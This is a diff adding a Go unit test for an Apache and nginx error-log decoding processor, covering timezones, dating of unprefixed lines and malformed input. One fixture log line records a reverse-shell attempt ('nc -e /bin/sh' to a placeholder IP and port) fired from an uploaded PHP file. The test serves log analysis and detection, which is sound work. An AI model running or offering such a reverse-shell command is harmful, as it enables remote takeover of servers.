@@ -170,6 +170,34 @@ func TestDecodeAuditd(t *testing.T) {
 	}
 }
 
+// decode_error_log: times in the configured zone, a command's output dated
+// by the line before it in the same file, the first unprefixed line of a
+// file by when it was read, and each file on its own.
+func TestDecodeErrorLog(t *testing.T) {
+	p := newProc(t, newErrorLog, map[string]any{"timezone": "Europe/Berlin"})
+	ev, _ := p.Run(event(`[Wed Nov 25 10:00:00.000001 2026] [php:error] [pid 7] [client 203.0.113.9:4242] PHP Warning:  system(): Unable to fork [nc -e /bin/sh 198.51.100.1 4444] in /var/www/html/uploads/x.php on line 1`))
+	if ev.Timestamp.UTC().Format(time.RFC3339Nano) != "2026-11-25T09:00:00.000001Z" || get(t, ev, "event.dataset") != "apache.error" ||
+		get(t, ev, "source.ip") != "203.0.113.9" || get(t, ev, "apache.error.module") != "php" || get(t, ev, "event.original") == nil {
+		t.Errorf("prefixed line: %v at %v", ev.Fields, ev.Timestamp)
+	}
+	out, _ := p.Run(event("sh: 0: can't access tty; job control turned off"))
+	if !out.Timestamp.Equal(ev.Timestamp) || get(t, out, "message") != "sh: 0: can't access tty; job control turned off" || get(t, out, "event.dataset") != "apache.error" {
+		t.Errorf("unprefixed line: %v at %v", out.Fields, out.Timestamp)
+	}
+	other := event("sh: 1: nc: not found")
+	other.Fields.Put("log.file.path", "/var/log/apache2/other-error.log")
+	read := other.Timestamp
+	other, _ = p.Run(other)
+	if !other.Timestamp.Equal(read) || get(t, other, "error.message") != nil || get(t, other, "tags") == nil {
+		t.Errorf("first line of another file: %v at %v, want read time %v", other.Fields, other.Timestamp, read)
+	}
+	nginx := newProc(t, newErrorLog, map[string]any{"server": "nginx", "timezone": "UTC"})
+	bad, _ := nginx.Run(event("2026/13/45 99:00:00 [error] 1#1: x"))
+	if msg, _ := get(t, bad, "error.message").(string); !strings.Contains(msg, "is not nginx's") || get(t, bad, "event.original") == nil {
+		t.Errorf("malformed first line: %v", bad.Fields)
+	}
+}
+
 func TestProcessorConfigErrors(t *testing.T) {
 	log := logptest.NewTestingLogger(t, "")
 	for _, tt := range []struct {
@@ -181,6 +209,8 @@ func TestProcessorConfigErrors(t *testing.T) {
 		{"access unknown key", newAccess, map[string]any{"fromat": "w3c"}, `unknown option "fromat"`},
 		{"access bad format", newAccess, map[string]any{"format": "ndjson"}, `format "ndjson" is not one of combined, w3c, json`},
 		{"access unknown server", newAccess, map[string]any{"server": "lighttpd"}, "not one of apache, nginx, iis, tomcat, caddy, traefik"},
+		{"error log unknown server", newErrorLog, map[string]any{"server": "iis"}, "not one of apache, nginx"},
+		{"error log bad zone", newErrorLog, map[string]any{"timezone": "Mars/Olympus"}, `timezone "Mars/Olympus"`},
 		{"windows wrong type", newWindows, map[string]any{"field": []string{"a", "b"}}, "field"},
 		{"webshell bad events", newWebshell, map[string]any{"events": 3}, "events"},
 		{"webshell missing rules", newWebshell, map[string]any{"rules": map[string]any{"builtin": false, "paths": []string{"/nonexistent"}}}, "no usable rule"},
